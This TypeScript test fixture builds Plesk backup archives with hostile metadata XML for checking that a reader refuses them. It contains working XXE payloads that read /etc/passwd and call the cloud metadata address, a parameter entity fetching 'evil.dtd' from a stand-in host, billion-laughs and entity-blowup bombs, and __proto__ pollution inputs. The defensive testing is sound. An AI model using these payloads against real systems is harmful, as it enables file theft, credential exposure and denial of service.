import { type TreeNode, writeArchive } from "./FixtureBuilder.ts"

/*
 * Plesk backups whose metadata XML is hostile (security.md items 15, 22–24): each is a small
 * repository tar whose description attacks the XML parser. A safe reader refuses the
 * description with a clear error (or, for `external-dtd-name`, ignores the DTD it names) and
 * never changes `Object.prototype`.
 */

export type PleskHostileXml =
  | "external-entity-file"
  | "external-entity-http"
  | "parameter-entity"
  | "billion-laughs"
  | "entity-blowup"
  | "numeric-references"
  | "deep-nesting"
  | "proto-element"
  | "proto-attribute"
  | "url-doctype"
  | "hostile-object-file"

export const pleskHostileXmlCases: ReadonlyArray<PleskHostileXml> = [
  "external-entity-file",
  "external-entity-http",
  "parameter-entity",
  "billion-laughs",
  "entity-blowup",
  "numeric-references",
  "deep-nesting",
  "proto-element",
  "proto-attribute",
  "url-doctype",
  "hostile-object-file",
]

const head = '<?xml version="1.0" encoding="UTF-8"?>\n'
const open = '<migration-dump dump-format="panel" agent-name="PleskX" dump-version="10.4.4">'
const domain = (name: string, inner = "") =>
  `<domain name="${name}" www="true"><properties><ip><ip-type>shared</ip-type><ip-address>192.0.2.9</ip-address></ip></properties>${inner}</domain>`

const laughs = (): string => {
  const lines = ['<!ENTITY lol0 "lol">']
  for (let i = 1; i <= 10; i++) lines.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`)
  return lines.join("\n")
}

/** The description of one hostile case. */
export const pleskHostileXml = (kind: PleskHostileXml): string => {
  switch (kind) {
    case "external-entity-file":
      return `${head}<!DOCTYPE migration-dump [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${open}${domain("a.example", "<mailsystem><preferences><catch-all>&x;</catch-all></preferences></mailsystem>")}</migration-dump>`
    case "external-entity-http":
      return `${head}<!DOCTYPE migration-dump [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n${open}${domain("a.example")}<!-- &x; --></migration-dump>`
    case "parameter-entity":
      return `${head}<!DOCTYPE migration-dump [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>\n${open}${domain("a.example")}</migration-dump>`
    case "billion-laughs":
      return `${head}<!DOCTYPE migration-dump [\n${laughs()}\n]>\n${open}${domain("a.example", "<dump-info>&lol10;</dump-info>")}</migration-dump>`
    case "entity-blowup":
      return `${head}<!DOCTYPE migration-dump [<!ENTITY big "${"x".repeat(9000)}">]>\n${open}${domain("a.example", `<t>${"&big;".repeat(20000)}</t>`)}</migration-dump>`
    case "numeric-references":
      return `${head}${open}${domain("a.example", `<t>${"&#65;".repeat(1_000_000)}</t>`)}</migration-dump>`
    case "deep-nesting":
      return `${head}${open}${domain("a.example", `${"<x>".repeat(5000)}${"</x>".repeat(5000)}`)}</migration-dump>`
    case "proto-element":
      return `${head}${open}<__proto__><polluted>yes</polluted></__proto__>${domain("a.example")}</migration-dump>`
    case "proto-attribute":
      return `${head}${open}<domain name="a.example" __proto__="polluted" constructor="x"/></migration-dump>`
    case "url-doctype":
      return `${head}<!DOCTYPE migration-dump SYSTEM "http://169.254.169.254/plesk.dtd">\n${open}${domain("a.example")}</migration-dump>`
    case "hostile-object-file":
      return `${head}${open}<admin><domains><domain name="a.example"/></domains></admin></migration-dump>`
  }
}

/** Write one hostile case as a tar; in `hostile-object-file` the root is benign and a domain's own file attacks. */
export const writePleskHostileBackup = async (kind: PleskHostileXml, out: string): Promise<string> => {
  // A repository layout (`.discovered/`), so even descriptions too large to be read during
  // detection are recognised, and refused when read.
  const tree = new Map<string, TreeNode>([
    [".discovered/backup_info_2311141200/props", "status=ok\n"],
    ["backup_info_2311141200.xml", pleskHostileXml(kind)],
  ])
  if (kind === "hostile-object-file") tree.set("domains/a.example/backup_info_2311141200.xml", pleskHostileXml("external-entity-file"))
  return writeArchive(tree, out, "tar")
}
